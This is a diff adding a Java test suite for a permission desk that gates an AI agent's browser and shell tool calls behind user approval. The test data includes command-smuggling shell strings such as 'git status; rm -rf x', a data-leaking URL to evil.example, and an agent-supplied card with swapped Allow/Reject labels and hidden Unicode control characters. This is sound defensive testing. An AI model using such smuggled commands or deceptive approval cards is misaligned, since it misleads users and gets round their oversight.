@@ -1,0 +1,332 @@
+package dev.tandem.hub.permission;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.awaitility.Awaitility.await;
+
+import dev.tandem.hub.auth.Caller;
+import dev.tandem.hub.auth.TokenKind;
+import dev.tandem.hub.store.Database;
+import dev.tandem.protocol.Catalogue;
+import dev.tandem.protocol.Json;
+import dev.tandem.protocol.TandemException;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.Collections;
+import java.util.List;
+import java.util.Optional;
+import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.TimeUnit;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import tools.jackson.databind.node.ObjectNode;
+
+class PermissionDeskTest {
+    private static final Caller.Mode ASK = Caller.Mode.ASK;
+    private static final Caller.Mode ACT = Caller.Mode.ACT;
+    private static final String SITE = DeskFixture.SITE;
+
+    private Database database;
+    private DeskFixture fixture;
+    private PermissionDesk desk;
+
+    @BeforeEach
+    void open(@TempDir Path folder) {
+        database = Database.open("", folder.resolve("t.db"));
+        fixture = new DeskFixture(database);
+        desk = fixture.desk;
+    }
+
+    @AfterEach
+    void close() {
+        fixture.close();
+        database.close();
+    }
+
+    @Test
+    @DisplayName("PLG-87 PLG-88 once is for one call; nothing stays")
+    void onceLeavesNoRule() throws Exception {
+        CompletableFuture<Outcome> first = desk.ask(fixture.click(ASK, "r1")).outcome();
+        fixture.answer("allow_once");
+        assertThat(first.get(5, TimeUnit.SECONDS).allowed()).isTrue();
+        assertThat(fixture.asks(fixture.click(ASK, "r1"))).isTrue();
+        fixture.answer("deny_once");
+        assertThat(fixture.rules.list("default")).isEmpty();
+    }
+
+    @Test
+    @DisplayName("PLG-89 PLG-90 PLG-91 always stores one exact rule per name and origin")
+    void alwaysIsARule() throws Exception {
+        desk.ask(fixture.click(ASK, "r1"));
+        fixture.answer("allow_always");
+        assertThat(fixture.rules.list("default"))
+                .singleElement()
+                .satisfies(rule -> {
+                    assertThat(rule.tool()).isEqualTo("tab_action:click");
+                    assertThat(rule.origin()).isEqualTo(SITE);
+                });
+        assertThat(fixture.now(fixture.click(ASK, "r2")).by()).isEqualTo("rule");
+        Ask elsewhere =
+                fixture.browser(ASK, "click", Json.object().put("ref", "r1"), "https://b.example");
+        assertThat(fixture.asks(elsewhere)).isTrue();
+        fixture.answer("reject_always");
+        desk.turnStarted("s1", List.of());
+        fixture.time.pass(Duration.ofMinutes(11));
+        assertThat(fixture.now(elsewhere).kind()).isEqualTo(Outcome.Kind.REFUSED);
+    }
+
+    @Test
+    @DisplayName("SEC-5 neither a rule for everything nor act mode covers a sensitive name")
+    void sensitiveNamesAlwaysAsk() throws Exception {
+        fixture.rules.put(new PermissionRules.Wish("default", "*", "*", true));
+        fixture.rules.put(new PermissionRules.Wish("default", "tab_script:run", "*", true));
+        desk.turnStarted("s1", List.of(SITE));
+        for (Caller.Mode mode : List.of(ASK, ACT)) {
+            ObjectNode script = Json.object().put("tabId", 1).put("script", "1+" + mode);
+            Ask ask = fixture.browser(mode, "browser_execute", script, SITE);
+            assertThat(Names.sensitive(ask.what().names())).isTrue();
+            assertThat(ask.options())
+                    .extracting(Ask.Option::optionId)
+                    .containsExactly("allow_once", "reject_once", "reject_always");
+            assertThat(fixture.asks(ask)).isTrue();
+            fixture.answer("allow_once");
+            assertThat(fixture.now(fixture.click(mode, "r1")).allowed()).isTrue();
+        }
+    }
+
+    @Test
+    @DisplayName("SEC-5 every tool has a permission name or a reason; every name has a risk")
+    void everyToolHasAName() {
+        Catalogue.load()
+                .tools()
+                .forEach(tool ->
+                        assertThat(
+                                        tool.permission().names().isEmpty()
+                                                && tool.permission().reason().isBlank())
+                                .as(tool.name())
+                                .isFalse());
+    }
+
+    @Test
+    @DisplayName("SEC-4 read-only refuses what writes, and reads after the site was allowed")
+    void readOnlyNeverWrites() throws Exception {
+        Caller.Mode mode = Caller.Mode.READ_ONLY;
+        assertThat(fixture.now(fixture.click(mode, "r1")).kind()).isEqualTo(Outcome.Kind.REFUSED);
+        for (String name : List.of("file:write", "bash:git status")) {
+            Outcome outcome = fixture.now(Asks.access(DeskFixture.who(mode), name, "x"));
+            assertThat(outcome.kind()).isEqualTo(Outcome.Kind.REFUSED);
+        }
+        assertThat(fixture.asks(fixture.snapshot(mode, SITE))).isTrue();
+        fixture.answer("allow_once");
+        assertThat(fixture.now(fixture.snapshot(mode, SITE)).allowed()).isTrue();
+    }
+
+    @Test
+    @DisplayName("Twenty routine steps on one site show at most two cards")
+    void routineIsQuiet() throws Exception {
+        int cards = 0;
+        for (int i = 0; i < 20; i++) {
+            Ask ask = i % 2 == 0 ? fixture.snapshot(ASK, SITE) : fixture.click(ASK, "r" + i);
+            if (fixture.asks(ask)) {
+                cards++;
+                fixture.answer("allow_session");
+            }
+        }
+        assertThat(cards).isEqualTo(2);
+    }
+
+    @Test
+    @DisplayName("ACP-53 first answer wins, the others are told; agents cannot answer (SEC-2)")
+    void firstAnswerWins() throws Exception {
+        List<String> told = Collections.synchronizedList(new ArrayList<>());
+        desk.watch(
+                new PermissionDesk.Watcher() {
+                    @Override
+                    public void onCard(Card card) {
+                        told.add("card");
+                    }
+
+                    @Override
+                    public void onResolved(Card card, Outcome outcome) {
+                        told.add("resolved " + outcome.optionId());
+                    }
+                });
+        PermissionDesk.Asked asked = desk.ask(fixture.click(ASK, "r1"));
+        Caller agent = new Caller(TokenKind.SESSION, "s1", "a", "core", ACT, Optional.of("s1"));
+        Caller program = new Caller(TokenKind.CLIENT, "c1", "c", "all", ACT, Optional.empty());
+        for (Caller other : List.of(agent, program, Caller.NOBODY)) {
+            assertThatThrownBy(() -> desk.answer(asked.requestId(), "allow_once", other))
+                    .hasMessageContaining("Only the user");
+        }
+        assertThatThrownBy(() -> desk.answer(asked.requestId(), "invented", Caller.USER))
+                .hasMessageContaining("no option");
+        desk.answer(asked.requestId(), "allow_once", Caller.USER);
+        assertThatThrownBy(() -> desk.answer(asked.requestId(), "reject_once", Caller.USER))
+                .isInstanceOfSatisfying(
+                        TandemException.class,
+                        e -> assertThat(e.reason()).contains("already_resolved"));
+        await().until(() -> told.equals(List.of("card", "resolved allow_once")));
+    }
+
+    @Test
+    @DisplayName("SEC-25 one card at a time, equal requests stay refused, three refusals pause")
+    void nobodyTiresTheUser() throws Exception {
+        List<String> paused = Collections.synchronizedList(new ArrayList<>());
+        desk.watch(
+                new PermissionDesk.Watcher() {
+                    @Override
+                    public void onCard(Card card) {}
+
+                    @Override
+                    public void onResolved(Card card, Outcome outcome) {}
+
+                    @Override
+                    public void onPause(String key) {
+                        paused.add(key);
+                    }
+                });
+        List<CompletableFuture<Outcome>> asks = new ArrayList<>();
+        for (int i = 0; i < 5; i++) {
+            asks.add(desk.ask(fixture.click(ASK, "r" + i)).outcome());
+            assertThat(desk.open("s1")).hasSize(1);
+        }
+        fixture.answer("reject_once");
+        assertThat(fixture.desk.ask(fixture.click(ASK, "r0")).outcome().get().by())
+                .isEqualTo("refused_before");
+        fixture.answer("reject_once");
+        fixture.answer("reject_once");
+        for (CompletableFuture<Outcome> ask : asks) {
+            assertThat(ask.get(5, TimeUnit.SECONDS).kind()).isEqualTo(Outcome.Kind.REFUSED);
+        }
+        await().until(() -> paused.equals(List.of("s1")));
+        desk.turnStarted("s1", List.of());
+        assertThat(fixture.now(fixture.click(ASK, "r1")).by()).isEqualTo("refused_before");
+        fixture.time.pass(Duration.ofMinutes(11));
+        assertThat(fixture.asks(fixture.click(ASK, "r1"))).isTrue();
+    }
+
+    @Test
+    @DisplayName("ACP-94 a cancelled turn answers every pending request cancelled")
+    void cancelAnswersAll() throws Exception {
+        CompletableFuture<Outcome> open = desk.ask(fixture.click(ASK, "r1")).outcome();
+        CompletableFuture<Outcome> behind = desk.ask(fixture.click(ASK, "r2")).outcome();
+        desk.cancelAll("s1");
+        assertThat(open.get(5, TimeUnit.SECONDS).kind()).isEqualTo(Outcome.Kind.CANCELLED);
+        assertThat(behind.get(5, TimeUnit.SECONDS).kind()).isEqualTo(Outcome.Kind.CANCELLED);
+        assertThat(desk.open()).isEmpty();
+    }
+
+    @Test
+    @DisplayName("SETTLED-4 a card that nobody answers ends as a timeout, not as a refusal")
+    void timeoutIsItsOwnOutcome() throws Exception {
+        try (DeskFixture quick = new DeskFixture(database, Duration.ofMillis(30))) {
+            Outcome outcome =
+                    quick.desk.ask(quick.click(ASK, "r1")).outcome().get(10, TimeUnit.SECONDS);
+            assertThat(outcome.kind()).isEqualTo(Outcome.Kind.TIMED_OUT);
+            assertThat(quick.desk.open()).isEmpty();
+            assertThat(quick.asks(quick.snapshot(ASK, "https://c.example"))).isTrue();
+        }
+    }
+
+    @Test
+    @DisplayName("SETTLED-4 a yes that comes after the caller left is kept for the same call, once")
+    void aLateYesWaits() throws Exception {
+        PermissionDesk.Asked asked = desk.ask(fixture.click(ASK, "r1"));
+        desk.leave(asked.requestId());
+        fixture.answer("allow_once");
+        assertThat(fixture.now(fixture.click(ASK, "r1")).by()).isEqualTo("grant");
+        assertThat(fixture.asks(fixture.click(ASK, "r1"))).isTrue();
+        desk.cancelAll("s1");
+
+        PermissionDesk.Asked again = desk.ask(fixture.click(ASK, "r1"));
+        desk.leave(again.requestId());
+        PermissionDesk.Asked retry = desk.ask(fixture.click(ASK, "r1"));
+        assertThat(retry.requestId()).isEqualTo(again.requestId());
+        fixture.answer("allow_once");
+        assertThat(retry.outcome().get(5, TimeUnit.SECONDS).allowed()).isTrue();
+    }
+
+    @Test
+    @DisplayName("SEC-8 an agent's words neither name the card nor widen the grant")
+    void anAgentsWordsAreOnlyQuoted() throws Exception {
+        ObjectNode call = Json.object().put("toolCallId", "t1").put("name", "mcp__browser__click");
+        call.put("title", "Harm\u202eless \u200b\u0007" + "x".repeat(200));
+        call.putObject("rawInput").put("ref", "r1");
+        Asks.Places places = (key, tool, args) -> new Ask.Where(SITE, SITE, "tab1", "doc1");
+        var lying = Json.array();
+        lying.addObject().put("optionId", "a").put("kind", "allow_once").put("name", "Reject");
+        lying.addObject().put("optionId", "b").put("kind", "reject_once").put("name", "Allow");
+        Ask ask = Asks.agent(DeskFixture.who(ASK), call, lying, places);
+        assertThat(ask.what().tool()).isEqualTo("click");
+        assertThat(ask.what().names()).containsExactly("tab_action:click");
+        assertThat(ask.options())
+                .extracting(Ask.Option::name)
+                .containsExactly("Allow once", "Reject");
+        assertThat(ask.what().title()).doesNotContain("\u202e", "\u200b", "\u0007");
+        assertThat(ask.what().title().length()).isLessThan(100);
+
+        desk.ask(ask);
+        fixture.answer("a");
+        Ask other = fixture.click(ASK, "r2");
+        assertThat(fixture.asks(other)).isTrue();
+        desk.withdraw(desk.open().getFirst().requestId());
+        assertThat(fixture.now(fixture.click(ASK, "r1")).by()).isEqualTo("grant");
+
+        desk.ask(ask);
+        fixture.answer("a");
+        fixture.time.pass(Duration.ofSeconds(61));
+        assertThat(fixture.asks(fixture.click(ASK, "r1"))).isTrue();
+    }
+
+    @Test
+    @DisplayName("SEC-14 act works inside the origins the user named, and asks before data crosses")
+    void actHasAFence() throws Exception {
+        String other = "https://evil.example";
+        desk.turnStarted("s1", List.of(SITE + "/start", other + "/x"));
+        assertThat(fixture.now(fixture.click(ACT, "r1")).allowed()).isTrue();
+        assertThat(fixture.now(fixture.snapshot(ACT, SITE)).allowed()).isTrue();
+        ObjectNode leak = Json.object().put("url", other + "/?stolen=1");
+        assertThat(fixture.asks(fixture.browser(ACT, "goto", leak, other))).isTrue();
+        fixture.answer("allow_once");
+        assertThat(fixture.now(fixture.browser(ACT, "goto", leak, other)).allowed()).isTrue();
+        assertThat(fixture.asks(fixture.snapshot(ACT, "https://third.example"))).isTrue();
+    }
+
+    @Test
+    @DisplayName("SEC-4 a command behind a shell is not covered by the rule of its first word")
+    void shellCommandsHaveTheirOwnName() throws Exception {
+        fixture.rules.put(new PermissionRules.Wish("default", "bash:git status", "*", true));
+        for (String line : List.of("git status", "git status; rm -rf x", "git status $(x)")) {
+            ObjectNode call = Json.object().put("kind", "execute").put("title", line);
+            call.putObject("rawInput").put("command", line);
+            Ask ask =
+                    Asks.agent(
+                            DeskFixture.who(ASK),
+                            call,
+                            DeskFixture.options("allow_once", "reject_once"),
+                            (key, tool, args) -> Ask.Where.NOWHERE);
+            boolean plain = line.equals("git status");
+            assertThat(fixture.asks(ask)).as(line).isNotEqualTo(plain);
+            desk.cancelAll("s1");
+        }
+    }
+
+    @Test
+    @DisplayName("PLG W17 every decision is one row, without typed text")
+    void decisionsAreAudited() throws Exception {
+        ObjectNode secret = Json.object().put("ref", "r1").put("text", "hunter2");
+        desk.ask(fixture.browser(ASK, "type", secret, SITE));
+        fixture.answer("reject_once");
+        await().until(() -> !desk.decisions(10).isEmpty());
+        PermissionDesk.Decision row = desk.decisions(10).getFirst();
+        assertThat(row.tool()).isEqualTo("type");
+        assertThat(row.kinds()).isEqualTo("tab_action:input");
+        assertThat(row.decision()).isEqualTo("refused");
+        assertThat(row.by()).isEqualTo(Caller.USER.name());
+        assertThat(row.toString()).doesNotContain("hunter2");
+    }
+}
